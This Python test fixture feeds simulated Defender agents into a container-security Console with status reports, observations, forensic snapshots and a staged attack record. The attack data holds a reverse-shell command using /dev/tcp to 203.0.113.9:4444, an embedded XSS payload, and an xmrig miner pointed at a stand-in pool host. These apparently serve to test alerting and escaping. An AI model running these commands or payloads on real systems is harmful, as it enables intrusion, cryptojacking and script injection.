"""Defenders that report to a Console over the real channel, so that pages have something to show."""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from tests.channel.running import DefenderEnd, process_audit

from console import Console

MINER = "/var/lib/.x/xmrig"
HOSTILE = "<img src=x onerror=alert(1)>"


def ends(console: Console, directory: Path) -> Any:
    """Return a maker of Defenders' ends for a Console in a process of its own."""
    bundle = console.request("GET", "defenders/install-bundle", params={"consoleaddr": "localhost"}).json()["bundle"]
    running = SimpleNamespace(
        running=SimpleNamespace(ca_file=console.ca_file), wss=f"wss://localhost:{console.channel_port}"
    )
    decoded = json.loads(base64.b64decode(bundle))
    return lambda **given: DefenderEnd(running, decoded, directory, **given)  # type: ignore[arg-type]


def status(end: DefenderEnd, policy: str, **waas: Any) -> None:
    """Report that a policy is in force in every container."""
    workloads = [
        {
            "container": item["container"], "instance": end.instance, "policyHash": policy, "tier": 1,
            "tierReasons": [], "dropped": 0,
        }
        for item in end.workloads
    ]  # fmt: skip
    end.send({"type": "status", "workloads": workloads, **({"waas": waas} if waas else {})})


def start(when: int, pid: int, parent: int, path: str, *arguments: str) -> dict[str, Any]:
    """Return a recorded start of a program."""
    event = {
        "kind": "process", "path": path, "invoked": path, "arguments": [Path(path).name, *arguments], "pid": pid,
        "parentPid": parent, "parentPath": "/init" if parent == 1 else "/usr/bin/python3.11", "user": 1000,
        "main": False, "interpreted": False, "invokedIsExe": True,
    }  # fmt: skip
    return {"time": when, "event": event}


def attack(end: DefenderEnd, now: int) -> list[dict[str, Any]]:
    """Report a miner and a reverse shell, and return the record around them."""
    shell = start(now, 31, 30, "/usr/bin/dash", "-c", f"exec 5<>/dev/tcp/203.0.113.9/4444; echo '{HOSTILE}'")
    miner = start(now + 900, 33, 31, MINER, "-o", "pool.evil.test:3333")
    audits = [
        process_audit(1)
        | {"time": now, "reason": "reverseShell", "matched": None, "effect": "alert", "event": shell["event"]},
        process_audit(2) | {"time": now + 900, "reason": "cryptoMiner", "matched": None, "event": miner["event"]},
    ]
    end.send({"type": "audits", "source": end.instance, "container": "web", "audits": audits})
    while end.receive()["type"] != "ack":
        pass
    look_up = {"kind": "lookup", "name": "pool.evil.test", "recordType": "A", "pid": 31, "path": "/usr/bin/dash"}
    connection = {
        "kind": "connection", "protocol": "tcp", "address": "203.0.113.9", "port": 4444, "pid": 31,
        "path": "/usr/bin/dash", "resolver": False,
    }  # fmt: skip
    told = {"effect": "alert", "reason": "reverseShell"}
    return [
        start(now - 60_000, 7, 1, "/usr/bin/python3.11", "shop.py"),
        *(
            start(now - 50_000 + number * 100, 40 + number, 7, "/usr/bin/convert", f"{number}.png")
            for number in range(4)
        ),
        start(now - 2000, 30, 7, "/usr/bin/python3.11", "-c", "import pty"),
        shell | {"judged": told},
        {"time": now + 100, "event": connection},
        {"time": now + 500, "event": look_up},
        miner | {"judged": {"effect": "prevent", "reason": "cryptoMiner"}},
    ]


def record(console: Console, end: DefenderEnd, events: list[dict[str, Any]]) -> None:
    """Let the Console fetch a record."""
    console.request("POST", "forensics", json={"defenderID": end.instance, "container": "web", "reason": "a look"})
    while (fetch := end.receive())["type"] != "fetch":
        pass
    answer = {"type": "snapshot", "id": fetch["id"], "container": "web", "first": 1, "newest": len(events)}
    end.send(answer | {"events": events})


def observed(end: DefenderEnd, now: int) -> None:
    """Tell what a container was seen to do."""
    seen = [
        *(("process", f"/usr/bin/{name}", "/usr/bin/python3.11") for name in ("python3.11", "convert", "curl")),
        ("process", "/run/xmrig", "/usr/bin/dash"),
        *(("name", f"{name}.good.test", "") for name in ("api", "www", "cdn", "img", "pay", "auth")),
        ("address", "192.0.2.7", "tcp/443"),
        ("listen", "tcp/8080", ""),
        ("file", "/var/cache/shop/index", "/usr/bin/python3.11"),
    ]
    items = [
        {"kind": kind, "value": value, "detail": detail, "count": 12 + index, "first": now - 86_400_000, "last": now}
        for index, (kind, value, detail) in enumerate(seen)
    ]
    end.send({"type": "observations", "container": "web", "number": 1, "observed": items, "overflow": 0})
    while end.receive()["type"] != "learned":
        pass


@contextmanager
def fed(console: Console, directory: Path) -> Iterator[dict[str, DefenderEnd]]:
    """Give a Console four Defenders: one attacked, one lost, one that ended, and one with an open port."""
    now = int(time.time() * 1000)
    make = ends(console, directory)
    web = ({"container": "web", "image": "battlement/shop:1"},)
    rule = {"name": "shop", "collections": [{"name": "shop", "images": ["battlement/shop:*"]}]}
    console.request("PUT", "policies/runtime/app-embedded", json={"rules": [rule]})
    shop = make(app_id="shop:1803740e", workloads=web)
    status(shop, shop.connect()["policies"][0]["hash"])
    events = attack(shop, now)
    record(console, shop, events)
    observed(shop, now)
    billing = make(app_id="billing:77", workloads=({"container": "web", "image": "billing:3"},))
    policy = billing.connect(version="0.0.9")["policies"][0]["hash"]
    port = {"port": 9000, "covered": False}
    status(
        billing,
        policy,
        hash=billing.receive_waas()["hash"],
        ports=[{"exposed": 80, "internal": 8080}],
        openPorts=[port],
    )
    lost = make(app_id="cart:9", workloads=web)
    lost.connect()
    lost.close()
    alone = ({"container": None, "image": None},)
    ended = make(app_id="report", kind="appEmbedded", workloads=alone)
    ended.connect()
    ended.send({"type": "goodbye", "reason": "the application ended with 0"})
    try:
        yield {"shop": shop, "billing": billing, "lost": lost, "ended": ended}
    finally:
        for end in (shop, billing, lost, ended):
            end.close()
